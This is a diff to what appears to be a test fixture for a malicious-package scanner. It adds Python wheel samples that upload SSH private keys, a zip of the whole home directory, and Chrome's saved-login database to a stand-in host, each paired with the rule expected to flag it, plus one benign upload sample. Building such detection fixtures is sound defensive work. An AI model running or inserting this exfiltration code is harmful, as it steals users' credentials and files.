@@ -10,6 +10,27 @@ function at(rule: string, severity: 'critical' | 'high' | 'medium', line: number
 export const samples: Samples = {
   malicious: [
     {
+      name: 'Python: keys that a folder lists',
+      files: wheel(
+        "import pathlib, requests\nfor key in (pathlib.Path.home() / '.ssh').glob('id_*'):\n    requests.post('https://a.weir.test/k', files={'f': key.read_bytes()})\n",
+      ),
+      expected: [{ rule: 'credentials', file: 'own/__init__.py', line: 3, severity: 'high' }],
+    },
+    {
+      name: 'Python: folders in an archive of its own',
+      files: wheel(
+        "import os, zipfile, requests\nout = zipfile.ZipFile('/tmp/own.zip', 'w')\nfor at, _, names in os.walk(os.path.expanduser('~')):\n    for name in names:\n        out.write(os.path.join(at, name))\nout.close()\nrequests.post('https://a.weir.test/z', files={'f': open('/tmp/own.zip', 'rb')})\n",
+      ),
+      expected: [{ rule: 'files', file: 'own/__init__.py', line: 7, severity: 'high' }],
+    },
+    {
+      name: 'Python: a copy of a browser store, in a function',
+      files: wheel(
+        "import os, requests, shutil, sqlite3\ndef grab():\n    shutil.copy2(os.path.expanduser('~/.config/google-chrome/Default/Login Data'), 'own.db')\n    rows = sqlite3.connect('own.db').execute('select 1').fetchall()\n    requests.post('https://a.weir.test/b', json=rows)\n",
+      ),
+      expected: [{ rule: 'credentials', file: 'own/__init__.py', line: 5, severity: 'high' }],
+    },
+    {
       name: 'Python: what a function is given, to a free host',
       files: wheel(
         'import requests\ndef connect(phrase):\n    requests.get(f"https://own.free.weir.test/api/{phrase}")\n',
@@ -206,6 +227,12 @@ export const samples: Samples = {
     },
   ],
   benign: [
+    quiet(
+      'Python: an archive of its own data',
+      wheel(
+        "import requests, zipfile\ndef send(report):\n    out = zipfile.ZipFile('own.zip', 'w')\n    out.write('report.txt')\n    out.close()\n    requests.post('https://api.weir.test/z', files={'f': open('own.zip', 'rb')})\n",
+      ),
+    ),
     quiet(
       'Python: what a function is given, to the address of a service',
       wheel(
